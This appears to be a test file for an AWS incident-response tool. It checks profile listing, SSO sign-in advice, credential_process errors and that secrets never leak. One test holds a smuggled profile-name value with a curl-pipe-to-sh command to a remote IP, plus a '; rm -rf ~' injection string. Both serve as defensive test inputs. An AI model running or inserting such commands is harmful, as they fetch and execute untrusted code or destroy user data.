import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AwsAccount, defaultRegions, listProfiles } from '../../../src/sources/aws/accounts';
import { LiveSource } from '../../../src/sources/aws/live-source';
import { SSO_LOGIN_COMMAND, ssoLoginCommand } from '../../../src/sources/aws/sso-login';
import { startRig, syntheticEvents, TEST_ACCOUNT, TEST_SECRET } from './helpers';

function withFiles(config: string, credentials: string): { dir: string; files: { configFilepath: string; filepath: string } } {
  const dir = mkdtempSync(join(tmpdir(), 'trailscope-profiles-'));
  writeFileSync(join(dir, 'config'), config);
  writeFileSync(join(dir, 'credentials'), credentials);
  return { dir, files: { configFilepath: join(dir, 'config'), filepath: join(dir, 'credentials') } };
}

const CONFIG = `[default]
region = eu-central-1

[profile responder]
sso_session = corp
sso_account_id = ${TEST_ACCOUNT}
sso_role_name = IncidentResponder
region = eu-west-1

[sso-session corp]
sso_start_url = https://corp.awsapps.com/start
sso_region = eu-west-1
sso_registration_scopes = sso:account:access

[profile audit]
role_arn = arn:aws:iam::999988887777:role/Audit
source_profile = default

[profile vault]
credential_process = /usr/local/bin/vault-aws

[profile forensics]
role_arn = arn:aws:iam::999988887777:role/Forensics
source_profile = responder
`;
const CREDENTIALS = `[default]
aws_access_key_id = AKIAEXAMPLEDEFAULT01
aws_secret_access_key = ${TEST_SECRET}
`;

test('profiles are listed by name, region and kind, from both files, without reading secrets into the result', async () => {
  const { dir, files } = withFiles(CONFIG, CREDENTIALS);
  const saved = process.env.AWS_ACCESS_KEY_ID;
  delete process.env.AWS_ACCESS_KEY_ID;
  try {
    const profiles = await listProfiles(files);
    assert.deepEqual(profiles, [
      { name: 'audit', region: undefined, kind: 'assume-role' },
      { name: 'default', region: 'eu-central-1', kind: 'static' },
      { name: 'forensics', region: undefined, kind: 'assume-role' },
      { name: 'responder', region: 'eu-west-1', kind: 'sso' },
      { name: 'vault', region: undefined, kind: 'process' },
    ]);
    assert.ok(!JSON.stringify(profiles).includes(TEST_SECRET));
    assert.deepEqual(defaultRegions(profiles[3]), ['eu-west-1', 'us-east-1']);
    assert.deepEqual(defaultRegions(profiles[0]), ['us-east-1']);
  } finally {
    if (saved !== undefined) process.env.AWS_ACCESS_KEY_ID = saved;
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a missing or expired SSO session names the exact aws sso login command', async () => {
  const { dir, files } = withFiles(CONFIG, CREDENTIALS);
  const saved = { HOME: process.env.HOME, AWS_CONFIG_FILE: process.env.AWS_CONFIG_FILE };
  process.env.HOME = dir; // no ~/.aws/sso/cache here: the session was never started
  // The SDK's SSO provider reads the config file from the environment, not from configFilepath.
  process.env.AWS_CONFIG_FILE = files.configFilepath;
  try {
    const account = new AwsAccount({ profile: 'responder', endpoint: 'http://127.0.0.1:9', ...files });
    await assert.rejects(account.accountId(), (error: Error) => {
      assert.equal(error.name, 'AccountError');
      assert.match(error.message, /aws sso login --profile responder$/);
      return true;
    });
    // A role assumed from the SSO session: sign in with the SSO profile at the root of the chain.
    const chained = new AwsAccount({ profile: 'forensics', endpoint: 'http://127.0.0.1:9', ...files });
    await assert.rejects(chained.accountId(), /profile "forensics" is missing or expired\. Sign in with: aws sso login --profile responder$/);
  } finally {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    rmSync(dir, { recursive: true, force: true });
  }
});

test('sign-in advice names only a configured SSO profile, as one shell word the Copy button copies whole', async () => {
  const odd = 'ir:corp/2%';
  const config = `${CONFIG}\n[profile ${odd}]\nsso_session = corp\nsso_account_id = ${TEST_ACCOUNT}\nsso_role_name = IncidentResponder\n`;
  const { dir, files } = withFiles(config, CREDENTIALS);
  const saved = { HOME: process.env.HOME, AWS_CONFIG_FILE: process.env.AWS_CONFIG_FILE };
  process.env.HOME = dir;
  process.env.AWS_CONFIG_FILE = files.configFilepath;
  const failure = async (profile: string): Promise<string> => {
    const account = new AwsAccount({ profile, endpoint: 'http://127.0.0.1:9', ...files });
    return account.accountId().then(() => assert.fail('credentials were found'), (error: Error) => error.message);
  };
  try {
    // A shared notebook or case names the profile: a name that is no profile here gets no command to run.
    const hostile = 'sso;curl${IFS}-s${IFS}http://198.51.100.9/x|sh;#';
    const message = await failure(hostile);
    assert.doesNotMatch(message, /aws sso login|Sign in with/);
    assert.match(message, /Could not get AWS credentials for profile "sso;curl/);
    const quoted = await failure(odd);
    assert.equal(SSO_LOGIN_COMMAND.exec(quoted)?.[0], "aws sso login --profile 'ir:corp/2%'");
    assert.equal(SSO_LOGIN_COMMAND.exec(`${ssoLoginCommand("it's")}; rm -rf ~`)?.[0], "aws sso login --profile 'it'\\''s'");
  } finally {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a failing credential_process is named, without its command line or what it printed', async () => {
  const leaky = `[profile leaky]\ncredential_process = sh -c "echo op-token=SECRET-op-token-0042 >&2; exit 3" --password=HUNTER2\n`;
  const { dir, files } = withFiles(leaky, '');
  try {
    const account = new AwsAccount({ profile: 'leaky', endpoint: 'http://127.0.0.1:9', ...files });
    await assert.rejects(account.accountId(), (error: Error) => {
      assert.equal(error.message, 'The credential_process of profile "leaky" failed; run it yourself to see why (its output is not shown here, as it may hold secrets).');
      return true;
    });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the account ID comes from GetCallerIdentity once, lazily', async () => {
  const rig = await startRig({});
  try {
    assert.equal(rig.endpoint.requests.length, 0);
    assert.equal(await rig.account.accountId(), TEST_ACCOUNT);
    assert.equal(await rig.account.accountId(), TEST_ACCOUNT);
    assert.deepEqual(rig.endpoint.requests.map((r) => r.operation), ['GetCallerIdentity']);
  } finally {
    await rig.close();
  }
});

test('cancelling one lookup leaves the others on the same profile running, also while the account ID is still being fetched', async () => {
  const rig = await startRig({ events: syntheticEvents(30, ['eu-west-1']) }, { faults: { lookupRatePerSecond: 0, delayMs: 200 } });
  const source = new LiveSource({ account: rig.account, regions: ['eu-west-1'], lookupRatePerSecond: 1000 });
  try {
    const cancelled = new AbortController();
    const first = source.lookupEvents({ attributes: [], filters: [] }, { signal: cancelled.signal });
    const second = source.lookupEvents({ attributes: [], filters: [] });
    setTimeout(() => cancelled.abort(), 50);
    await assert.rejects(first, { name: 'AbortError' });
    assert.equal((await second).length, 30);
    assert.equal(rig.endpoint.requests.filter((r) => r.operation === 'GetCallerIdentity').length, 1, 'one GetCallerIdentity served both');
  } finally {
    source.close();
    await rig.close();
  }
});

test('the secret key never reaches errors, console output or anything the endpoint received', async () => {
  const rig = await startRig({}, { faults: { deniedOperations: ['LookupEvents', 'DescribeLogGroups', 'StartQuery'] } });
  const printed: string[] = [];
  const originals = { log: console.log, warn: console.warn, error: console.error, info: console.info, debug: console.debug };
  for (const name of Object.keys(originals) as Array<keyof typeof originals>) console[name] = (...args: unknown[]) => printed.push(args.map(String).join(' '));
  const errors: string[] = [];
  try {
    const source = new LiveSource({ account: rig.account, regions: ['eu-west-1'] });
    const failing = [
      () => source.lookupEvents({ attributes: [], filters: [] }),
      () => source.logGroups(),
      () => source.runInsights({ query: 'fields @message', logGroups: ['g'], start: '2026-01-01T00:00:00Z', end: '2026-01-02T00:00:00Z' }),
      () => new AwsAccount({ profile: 'no-such-profile', filepath: join(rig.dir, 'credentials'), configFilepath: join(rig.dir, 'config') }).accountId(),
    ];
    for (const attempt of failing) {
      await attempt().then(
        () => assert.fail('expected a failure'),
        (error: unknown) => errors.push(error instanceof Error ? `${error.name} ${error.message} ${error.stack} ${JSON.stringify(error)}` : String(error)),
      );
    }
    source.close();
  } finally {
    Object.assign(console, originals);
    await rig.close();
  }
  assert.equal(errors.length, 4);
  assert.match(errors[3], /no-such-profile/);
  const everything = [...errors, ...printed, JSON.stringify(rig.endpoint.requests)].join('\n');
  assert.ok(!everything.includes(TEST_SECRET), 'secret leaked');
});

test('fresh keys pasted into the credentials file are used from the next request, without a reload', async () => {
  const rig = await startRig({ events: syntheticEvents(10, ['eu-west-1']) }, { accounts: { AKIATRAILSCOPETEST01: TEST_ACCOUNT, ASIAFRESHSESSION0002: TEST_ACCOUNT }, faults: { lookupRatePerSecond: 0 } });
  const files = { filepath: join(rig.dir, 'credentials'), configFilepath: join(rig.dir, 'config') };
  const account = new AwsAccount({ profile: 'incident', endpoint: rig.endpoint.url, ...files, credentialsRereadMs: 0 });
  const source = new LiveSource({ account, regions: ['eu-west-1'] });
  try {
    await source.lookupEvents({ attributes: [], filters: [], max: 1 });
    // The responder's temporary keys expired; new ones go into the file while the source stays open.
    writeFileSync(files.filepath, `[incident]\naws_access_key_id = ASIAFRESHSESSION0002\naws_secret_access_key = ${TEST_SECRET}\naws_session_token = fresh\n`);
    await source.lookupEvents({ attributes: [], filters: [], max: 1 });
    const keys = rig.endpoint.requests.filter((r) => r.operation === 'LookupEvents').map((r) => r.accessKeyId);
    assert.deepEqual(keys, ['AKIATRAILSCOPETEST01', 'ASIAFRESHSESSION0002']);
  } finally {
    source.close();
    await rig.close();
  }
});
